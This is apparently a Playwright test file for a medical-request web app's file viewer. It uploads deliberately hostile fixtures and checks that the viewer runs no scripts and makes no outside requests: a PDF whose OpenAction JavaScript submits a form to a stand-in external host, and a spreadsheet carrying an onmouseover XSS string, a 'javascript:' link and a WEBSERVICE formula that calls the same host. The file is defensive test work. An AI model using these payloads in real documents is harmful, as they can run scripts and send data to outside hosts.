import { utils, write } from '@e965/xlsx'
import { expect, test } from '@playwright/test'
import { submitIvr } from './actions.ts'
import { picture, uploadInto } from './fill-wizard.ts'
import { expectAccessible } from './looks.ts'
import { openAs, sessionOf } from './people.ts'
import { viewer } from './viewer.ts'

/** A PDF that tries to run a script when it is opened, and links to another site. */
const scripted = (() => {
  const script = '/S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://elsewhere.example/"\\);)'
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${script} >> /AA << /WC << ${script} >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>',
    '<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (https://elsewhere.example/) >> >>',
  ]
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join('')
  return Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n`)
})()

/** A workbook of two sheets; the first exceeds the display limits, and contains markup and a link. */
function hostileBook(): Buffer {
  const head = [
    '<b onmouseover=alert(1)>bold</b>',
    'lead on',
    ...Array.from({ length: 58 }, (_, at) => `week ${at}`),
  ]
  const first = utils.aoa_to_sheet([head, ...Array.from({ length: 1_000 }, (_, at) => [at])])
  Object.assign(first.B1, {
    l: { Target: 'javascript:alert(1)' },
    f: 'WEBSERVICE("https://elsewhere.example/")',
  })
  const book = utils.book_new()
  utils.book_append_sheet(book, first, 'Measures')
  utils.book_append_sheet(book, utils.aoa_to_sheet([['Albumin', 3.4]]), 'Labs')
  return Buffer.from(write(book, { type: 'buffer', bookType: 'xlsx' }))
}

test('cards, wound images and documents of a request are one sequence of files, and every reader can download all', {
  tag: '@variant',
}, async ({ page, baseURL }) => {
  const id = await submitIvr(baseURL ?? '', sessionOf('office'))
  await openAs(page, 'office', `/viewivrsubmissions/IVR-${id}`)
  await page.getByRole('button', { name: 'Supporting Documents' }).click()
  await uploadInto(page, 'supportingDocuments').setInputFiles([
    { name: 'measures.xlsx', mimeType: '', buffer: hostileBook() },
    { name: 'scripted.pdf', mimeType: 'application/pdf', buffer: scripted },
  ])
  await expect(page.getByRole('button', { name: /^Remove / })).toHaveCount(2)
  await page.getByRole('button', { name: 'Submit' }).click()
  await expect(page.getByRole('link', { name: 'scripted.pdf' }).last()).toBeVisible()

  const elsewhere: string[] = []
  const run: string[] = []
  page.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('example')) elsewhere.push(request.url())
  })
  page.on('dialog', (dialog) => {
    run.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('console', (message) => message.type() === 'error' && run.push(message.text()))

  await page.getByRole('link', { name: 'Open large: Primary card, front side' }).click()
  await expect(viewer(page).getByRole('img', { name: 'Primary card, front side' })).toBeVisible()
  await expect(viewer(page).getByText(/^Primary card, front side · PNG · [\d.]+ (KB|MB)$/)).toBeVisible()
  await expect(viewer(page).getByText('1 of 5', { exact: true })).toBeVisible()
  await page.keyboard.press('ArrowLeft')
  await expect(viewer(page)).toHaveAccessibleName('scripted.pdf')
  await expect(viewer(page).getByText('Page 1 of 1')).toBeVisible()
  await viewer(page).getByRole('region', { name: 'Page 1' }).click()
  await page.keyboard.press('ArrowLeft')

  await expect(viewer(page).getByText('<b onmouseover=alert(1)>bold</b>')).toBeVisible()
  await expect(
    viewer(page).getByText('Only the first 1,000 rows and 50 columns are shown.', { exact: false }),
  ).toBeVisible()
  await expect(viewer(page).getByRole('columnheader')).toHaveCount(50)
  await expect(viewer(page).getByRole('link')).toHaveCount(0)
  await viewer(page).getByRole('tab', { name: 'Measures' }).focus()
  await page.keyboard.press('ArrowRight')
  await page.keyboard.press('Enter')
  await expect(viewer(page)).toHaveAccessibleName('measures.xlsx')
  await expect(viewer(page).getByRole('cell', { name: 'Albumin' })).toBeVisible()
  // On the small sheet: axe takes most of a minute for the 50,000 cells of the large one.
  await expectAccessible(page)
  await page.keyboard.press('Escape')
  expect([...elsewhere, ...run]).toEqual([])

  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Download all 5 files as a ZIP' }).click()
  expect((await download).suggestedFilename()).toMatch(/^IVR-\d+\.zip$/)
})

test('a file name opened with Ctrl opens a new tab, and on a phone the viewer fills the screen', {
  tag: '@variant',
}, async ({ browser }) => {
  const phone = await browser.newContext({ viewport: { width: 375, height: 667 } })
  const page = await phone.newPage()
  await openAs(page, 'office', '/add-priorAuthorization')
  await uploadInto(page, 'woundImages').setInputFiles([await picture('heel'), await picture('toe')])
  await expect(page.getByRole('button', { name: /^Remove / })).toHaveCount(2)
  const reply = page.waitForResponse(/submitPriorAuthorization/)
  await page.getByRole('button', { name: 'Submit' }).click()
  const { data } = await (await reply).json()
  await page.goto(`/view-response/PA-${data._id}`)
  const link = page.getByRole('link', { name: 'heel.png' })
  const tab = phone.waitForEvent('page')
  await link.click({ modifiers: ['ControlOrMeta'] })
  await expect(await tab).toHaveURL(/\/files\//)
  await expect(viewer(page)).toHaveCount(0)
  await link.click()
  await expect(viewer(page).getByRole('img', { name: 'Wound Images' })).toBeVisible()
  expect(await viewer(page).boundingBox()).toEqual({ x: 0, y: 0, width: 375, height: 667 })
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(375)
  await expectAccessible(page)
  await viewer(page).getByRole('button', { name: 'Close' }).click()
  await expect(link).toBeFocused()
})
